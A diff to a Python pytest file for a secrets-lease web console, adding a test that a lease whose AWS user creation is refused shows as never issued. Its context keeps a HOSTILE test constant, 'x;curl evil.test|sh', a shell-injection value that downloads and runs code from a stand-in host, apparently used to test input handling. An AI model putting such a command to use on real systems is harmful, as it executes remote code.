@@ -8,6 +8,7 @@ import pytest
 
 from tests.support.access import principal
 from tests.support.console_browser import browser
+from tests.support.iam_faults import Fault, Kind
 from tests.support.virtual_loop import virtual
 
 HOSTILE = "x;curl evil.test|sh"
@@ -80,3 +81,16 @@ async def test_an_error_is_a_sentence() -> None:
         b.knows("nobody-token", principal("nobody"))
         await b.sign_in("nobody-token")
         assert "This needs list on sys/mounts/." in (await b.get("/engines")).words()
+
+
+@virtual
+async def test_a_lease_that_was_never_issued_has_no_time_of_issue() -> None:
+    async with browser() as b:
+        await b.sign_in()
+        b.world.aws.faults.add(Fault(Kind.REFUSE, "CreateUser"))
+        b.world.aws.faults.add(Fault(Kind.REFUSE, "DeleteUser"))
+        form = (await b.get("/issue")).form("/issue")
+        assert (await b.send(form, role="app")).status >= 400
+        (lease_id,) = b.world.store.rows
+        assert "not issued" in (await b.get("/events?prefix=aws/")).words()
+        assert "Issued never" in (await b.get(f"/leases/{lease_id}")).words()
